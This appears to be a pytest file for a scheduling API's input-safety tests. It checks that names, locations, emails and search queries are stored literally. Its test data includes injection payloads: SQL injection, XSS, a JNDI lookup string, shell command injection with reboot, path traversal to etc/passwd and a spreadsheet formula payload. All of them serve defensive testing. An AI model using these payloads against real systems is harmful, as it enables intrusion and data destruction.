"""R5: no input becomes SQL, HTML or the structure of a log line; text comes back as it was given."""

import json
import unicodedata
from collections.abc import AsyncGenerator

import pytest

from company import Company, Json, refusal

pytestmark = pytest.mark.anyio

TEXTS = [
    # What a database, a page, a template, a shell or a log might take for something to do.
    "Robert'); drop table slot;--", "' or '1'='1", '"; select pg_sleep(10); --', "$1", "?", ":name", "%s %(x)s %n",
    "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "&lt;b&gt; &amp;", "{{7*7}} ${7*7} #{7*7}",
    "${jndi:ldap://example.com/a}", "$(reboot) `reboot` | reboot; reboot &", "..\\..\\..\\etc\\passwd", "a\\b\\",
    '{"status":"booked"}', 'x","status":"booked', "a\\u0000b", "null", "NaN", "-0", "1e400", "=cmd|' /C calc'!A0",
    "request level=error code=internal", "\\", '"', "'", "--", "/* */", "E'\\\\x'", "\\x27", "%00", "%", "_",
    # Scripts, directions, and what is wider than it looks.
    "محمد علي", "יוסף כהן", "李小龍", "山田 太郎", "Łukasz Żółć", "Nguyễn Thị Minh Khai", "Ναυσικά", "Ձ. Հակոբյան", "ไทย",
    "\u202eevil\u202c", "\u200fABC", "a\u2028b\u2029c", "👩‍👩‍👧‍👦", "🏴󠁧󠁢󠁳󠁣󠁴󠁿", "Ｗｉｄｅ", "ẞß",
    "İıI", "ﬁn", "\u00a0x\u00a0", "x ", "\ufeffx",
    "Z\u0351\u036b\u0343\u036a\u0302a\u0348\u0330", "\U00010d50\U00010d70", "\uffff", "\U0010ffff", "\ue000",
]  # fmt: skip


async def test_whatever_is_written_comes_back_as_it_was(company: Company) -> None:
    interviewer, coordinator = await company.interviewer(), await company.coordinator()
    slot = await interviewer.slot("2026-06-09T10:00:00Z")
    candidate = await company.candidate(name=TEXTS[0])
    await coordinator.booking(slot, candidate)
    for number, text in enumerate(TEXTS):
        kept = unicodedata.normalize("NFC", text)
        written = await company.candidate(name=text, email=f"text{number}@example.com")
        assert written["name"] == kept
        assert written in await coordinator.items("/api/candidates", q=f"text{number}@")
        place = await company.interviewer(name=text, externalId=None)
        opened = await place.slot("2026-06-09T10:00:00Z", location=text)
        assert opened["location"] == kept
        assert (await place.get(f"/api/slots/{opened['id']}")).json() == opened
        assert (await place.get("/api/me")).json()["name"] == kept
    events = [event for event in await coordinator.items("/api/events", limit=200) if event["action"] == "slot.opened"]
    assert [event["data"]["location"] for event in events[1:]] == [unicodedata.normalize("NFC", t) for t in TEXTS]
    entry = (await coordinator.items("/api/calendar"))[0]
    assert entry["candidate"] == candidate


async def test_composed_and_decomposed_are_one_text(company: Company) -> None:
    person = await company.candidate(name="Zoe\u0308", email="zoe\u0308@example.com")
    assert (person["name"], person["email"]) == ("Zo\u00eb", "zo\u00eb@example.com")
    again = {"name": "Zoë", "email": "zo\u00eb@example.com"}
    assert refusal(await company.admin.call("POST", "/api/candidates", again), 409, "email_taken") == {
        "id": person["id"]
    }
    assert await company.admin.items("/api/candidates", q="zoe\u0308") == [person]


@pytest.fixture
async def fields(company: Company) -> AsyncGenerator[list[tuple[str, str, Json, str, int]]]:
    """(method, path, a body that is good but for the field, the field, its longest)."""
    coordinator, interviewer = await company.coordinator(), await company.interviewer()
    slot = await interviewer.slot("2026-06-20T10:00:00Z")
    times = {"startTime": "2026-06-09T10:00:00Z", "endTime": "2026-06-09T11:00:00Z", "interviewerId": interviewer.id}
    person = {"name": "Ada", "email": "ada@example.com"}
    async with company.unchanged():
        yield [
            ("POST", "/api/slots", times, "location", 500),
            ("PATCH", f"/api/slots/{slot['id']}", {}, "location", 500),
            ("POST", "/api/candidates", person, "name", 200),
            ("POST", "/api/candidates", person, "email", 254),
            ("POST", "/api/interviewers", person | {"timeZone": "UTC"}, "name", 200),
            ("POST", "/api/interviewers", person | {"timeZone": "UTC"}, "externalId", 200),
            ("PATCH", f"/api/interviewers/{interviewer.id}", {}, "name", 200),
            ("PATCH", f"/api/coordinators/{coordinator.id}", {}, "externalId", 200),
            ("PATCH", f"/api/coordinators/{coordinator.id}", {}, "email", 254),
        ]


async def test_control_characters_are_refused(company: Company, fields: list[tuple[str, str, Json, str, int]]) -> None:
    controls = [*range(0x20), *range(0x7F, 0xA0)]
    for method, path, body, field, _ in fields:
        for code in controls:
            refused = await company.admin.call(method, path, body | {field: f"a{chr(code)}@b"})
            assert refusal(refused, 400, "invalid_input").keys() == {field}, (path, field, code)


async def test_half_a_surrogate_pair_is_refused(
    company: Company, fields: list[tuple[str, str, Json, str, int]]
) -> None:
    for method, path, body, field, _ in fields:
        for half in (r"\ud800", r"\udc00", r"\ud800\ud800", r"\udc00\ud800", r"\ud83d\u0041"):
            text = json.dumps(body | {field: "HERE"}).replace("HERE", f"a{half}@b")
            refusal(await company.admin.send(method, path, text), 400, "invalid_input")
        raw = json.dumps(body | {field: "HERE"}).encode()
        for broken in (b"\xed\xa0\x80", b"\xff", b"\xc0\x80", b"\xf5\x80\x80\x80", b"\xe2\x82"):
            refused = await company.admin.send(method, path, raw.replace(b"HERE", b"a" + broken + b"@b"))
            refusal(refused, 400, "invalid_input")


async def test_overlong_text_is_refused(company: Company, fields: list[tuple[str, str, Json, str, int]]) -> None:
    for method, path, body, field, longest in fields:
        for character in ("x", "é", "李", "👩", "\u0301"):
            text = (character * longest + "@b")[-longest - 1 :]
            refused = await company.admin.call(method, path, body | {field: text})
            assert refusal(refused, 400, "invalid_input").keys() == {field}, (path, field, character)


@pytest.mark.parametrize("character", ["x", "é", "李", "👩", "e\u0301", '"', "\\"])
async def test_text_of_the_greatest_length_is_kept(company: Company, character: str) -> None:
    one = unicodedata.normalize("NFC", character)
    made = await company.interviewer(name=character * 200, externalId=character * 200)
    assert (await made.get("/api/me")).json()["name"] == one * 200
    assert (await made.slot("2026-06-09T10:00:00Z", location=character * 500))["location"] == one * 500
    person = await company.candidate(email=("a" if one in '"\\' else character) * 252 + "@b")
    assert len(person["email"]) == 254
    # Long as they are, such people can sign in and be paged past.
    async with company.unchanged():
        headers = [(b"X-User-Id", (one * 200).encode()), (b"X-User-Role", b"interviewer")]
        me = await company.client.get("/api/me", headers=headers)
        assert me.status_code == 200
        await company.admin.items("/api/interviewers", limit=1)


@pytest.mark.parametrize("empty", ["", " ", "\u00a0", "\u2003\u3000", "\u2028"])
async def test_a_name_is_not_empty(company: Company, empty: str) -> None:
    async with company.unchanged():
        refused = await company.admin.call("POST", "/api/candidates", {"name": empty, "email": "ada@example.com"})
    assert refusal(refused, 400, "invalid_input").keys() == {"name"}


@pytest.mark.parametrize(
    "address",
    [
        "",
        "ada",
        "@example.com",
        "ada@",
        "a@b@c",
        "a b@example.com",
        "a@b c",
        "<a@b>",
        "a,b@c",
        "a;b@c",
        '"a"@b',
        "a@b\u3000",
    ],
)
async def test_an_email_address_has_one_at_and_no_spaces(company: Company, address: str) -> None:
    async with company.unchanged():
        refused = await company.admin.call("POST", "/api/candidates", {"name": "Ada", "email": address})
    assert refusal(refused, 400, "invalid_input").keys() == {"email"}


@pytest.mark.parametrize(
    ("q", "found"),
    [
        ("%", ["100% Ada"]), ("0% a", ["100% Ada"]), ("_", ["snake_case"]), ("e_c", ["snake_case"]),
        ("\\", ["back\\slash"]), ("\\\\", []), ("k\\s", ["back\\slash"]), ("\\%", []), ("%%%", []), ("'", ["O'Brien"]),
        ("straSSe", ["Straße"]), ("STRASSE", ["Straße"]), ("ΝΑΥΣΙΚΆ", ["Ναυσικά"]), ("c1@", ["100% Ada"]), ("zzz", []),
        ("' or true --", []), ("$1", []), ("null", []),
    ],
)  # fmt: skip
async def test_a_search_takes_every_character_literally(company: Company, q: str, found: list[str]) -> None:
    for number, name in enumerate(("100% Ada", "snake_case", "back\\slash", "O'Brien", "Straße", "Ναυσικά"), start=1):
        await company.candidate(name=name, email=f"c{number}@x")
    assert [person["name"] for person in await company.admin.items("/api/candidates", q=q)] == found


GIVEN_IDS = ["a", "0", "-", "req.1_A-z", "x" * 128]
IDS_NOT_TAKEN = [
    b"", b"x" * 129, b"a b", b"a\tb", b"a\nb", b"a,b", b"a\"b", b"a{b}", b"\xc3\xa9", b"\x00", b"a/b", b"<b>",
]  # fmt: skip


async def test_a_request_id_is_echoed_when_it_is_one_plain_word(company: Company) -> None:
    for given in GIVEN_IDS:
        for path, status in (("/api/me", 200), ("/api/slots/none", 400), ("/nowhere", 404)):
            answer = await company.client.get(path, headers=company.admin.headers | {"X-Request-Id": given})
            assert (answer.status_code, answer.headers["x-request-id"]) == (status, given)


async def test_any_other_request_id_is_replaced_by_a_new_one(company: Company) -> None:
    made: set[str] = set()
    for given in IDS_NOT_TAKEN:
        answer = await company.client.get("/api/health/live", headers=[(b"X-Request-Id", given)])
        made.add(answer.headers["x-request-id"])
    twice = [(b"X-Request-Id", b"a"), (b"X-Request-Id", b"b")]
    made.add((await company.client.get("/api/health/live", headers=twice)).headers["x-request-id"])
    assert len(made) == len(IDS_NOT_TAKEN) + 1
    assert all(len(id) == 32 and id.isalnum() for id in made)


async def test_the_request_id_is_in_the_event_of_the_change(company: Company) -> None:
    interviewer = await company.interviewer()
    body = {"startTime": "2026-06-09T10:00:00Z", "endTime": "2026-06-09T11:00:00Z"}
    headers = interviewer.headers | {"X-Request-Id": "trace-7"}
    assert (await company.client.post("/api/slots", json=body, headers=headers)).status_code == 201
    assert (await interviewer.items("/api/events"))[-1]["requestId"] == "trace-7"
